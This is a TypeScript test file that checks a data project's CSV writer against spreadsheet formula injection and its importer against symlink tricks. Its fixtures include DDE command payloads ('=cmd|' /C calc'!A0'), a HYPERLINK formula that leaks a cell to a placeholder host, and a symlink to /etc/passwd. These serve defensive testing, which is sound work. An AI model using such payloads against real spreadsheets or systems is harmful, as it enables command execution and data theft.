// Issue 28: every CSV the project writes is safe to open in a spreadsheet (OWASP CSV injection): a text
// cell a spreadsheet would read as a formula is prefixed with ', and control characters are dropped.
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "../../src/charts/renderChart.ts";
import { importWorkforceCommand } from "../../src/cli/importWorkforceCommand.ts";

const main = (argv: string[], out: (line: string) => void, err: (line: string) => void) =>
  importWorkforceCommand.run(argv, { out: (t) => out(t.replace(/\n$/, "")), err: (t) => err(t.replace(/\n$/, "")) }) as number;
import { commentsCsv } from "../../src/comments/output.ts";
import type { ReviewComment } from "../../src/comments/comment.ts";
import { csvCell } from "../../src/domain/csvWriter.ts";
import { fixturesDir } from "../helpers/fixtureCopy.ts";

const repo = path.resolve(import.meta.dirname, "../..");

describe("one CSV cell", () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"see")', `"'=HYPERLINK(""http://x.example/?""&A1,""see"")"`],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["-2+3", "'-2+3"],
    ["+44 20 7946 0000", "'+44 20 7946 0000"],
    ["\t=1+1", "' =1+1"],
    ["\r=1+1", `"'\n=1+1"`],
    ["\u0007=1+1", "'=1+1"],
    ["bell\u0007 null\u0000 esc\u001b c1\u0085 del\u007f", "bell null esc c1 del"],
    ["two\r\nlines", `"two\nlines"`],
    ["-2", "-2"],
    ["12.5", "12.5"],
    ["Kent", "Kent"],
    ["a, b", `"a, b"`],
  ])("writes %j as %j", (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it("leaves numbers, negative ones included, as numbers", () => {
    expect(csvCell(-2.5)).toBe("-2.5");
    expect(toCsv([{ label: "-x", value: -3 }])).toBe("label,value\r\n'-x,-3\r\n");
  });
});

describe("comments.csv", () => {
  it("neutralises a reviewer's formulas and drops control characters, and reads back as text", () => {
    const comment = {
      draft: { year: 2024, number: 3, revision: null },
      pdfs: ["=cmd|' /C calc'!A0.pdf"],
      page: 4,
      kind: "note",
      authors: ["@reviewer"],
      date: null,
      text: '=HYPERLINK("http://x.example","click")\u0007',
      replacement: "-2+3",
      replies: [{ author: "+lead", text: "ok" }],
      covered: "\u0000words",
      target: { type: "text", id: "entry/kent/1" },
      source: null,
      location: null,
      changed: null,
    } as unknown as ReviewComment;
    const text = commentsCsv([comment]);
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    const [header, row] = parse(text) as string[][];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell("text")).toBe(`'=HYPERLINK("http://x.example","click")`);
    expect(cell("replacement")).toBe("'-2+3");
    expect(cell("authors")).toBe("'@reviewer");
    expect(cell("replies")).toBe("'+lead: ok");
    expect(cell("pdfs")).toBe("'=cmd|' /C calc'!A0.pdf");
    expect(cell("covered")).toBe("words");
  });
});

describe("the imported workforce files", () => {
  it("write a table file named like a formula into the source column as text", () => {
    const root = mkdtempSync(path.join(tmpdir(), "import-"));
    const dataDir = path.join(root, "data");
    mkdirSync(dataDir);
    cpSync(path.join(fixturesDir, "data/forces.csv"), path.join(dataDir, "forces.csv"));
    cpSync(path.join(repo, "data/home-office-mapping.csv"), path.join(dataDir, "home-office-mapping.csv"));
    const table = path.join(root, "=cmd|' -c calc'!A0.csv");
    cpSync(path.join(fixturesDir, "workforce-import/police-workforce.csv"), table);
    const code = main([table, path.join(fixturesDir, "workforce-import/cumbria-return.csv"), "--year", "2025", "--data", dataDir], () => {}, () => {});
    expect(code).toBe(0);
    const [header, ...rows] = parse(readFileSync(path.join(dataDir, "2025/officers.csv"), "utf8")) as string[][];
    const sources = rows.map((r) => r[header.indexOf("source")]);
    expect(sources.length).toBeGreaterThan(10);
    // Every row from the formula-named table (Cumbria's come from its own return) names it as text.
    for (const source of sources.filter((s) => !s.startsWith("cumbria-return.csv"))) expect(source.startsWith("'=cmd|' -c calc'!A0.csv:")).toBe(true);
  });
});

describe("the import's carried-over files", () => {
  it("refuses a link in the year folder instead of copying what it points at", () => {
    const root = mkdtempSync(path.join(tmpdir(), "import-"));
    const dataDir = path.join(root, "data");
    mkdirSync(path.join(dataDir, "2025"), { recursive: true });
    cpSync(path.join(fixturesDir, "data/forces.csv"), path.join(dataDir, "forces.csv"));
    cpSync(path.join(repo, "data/home-office-mapping.csv"), path.join(dataDir, "home-office-mapping.csv"));
    symlinkSync("/etc/passwd", path.join(dataDir, "2025/notes.txt"));
    const err: string[] = [];
    const code = main([path.join(fixturesDir, "workforce-import/police-workforce.csv"), path.join(fixturesDir, "workforce-import/cumbria-return.csv"), "--year", "2025", "--data", dataDir], () => {}, (l) => err.push(l));
    expect(code).not.toBe(0);
    expect(err.join("\n")).toMatch(/2025\/notes\.txt: error: This is a symbolic link; .* \[input-not-regular-file\]/);
    expect(err.join("\n")).not.toMatch(/root:/);
    expect(existsSync(path.join(dataDir, "2025/officers.csv"))).toBe(false);
  });
});
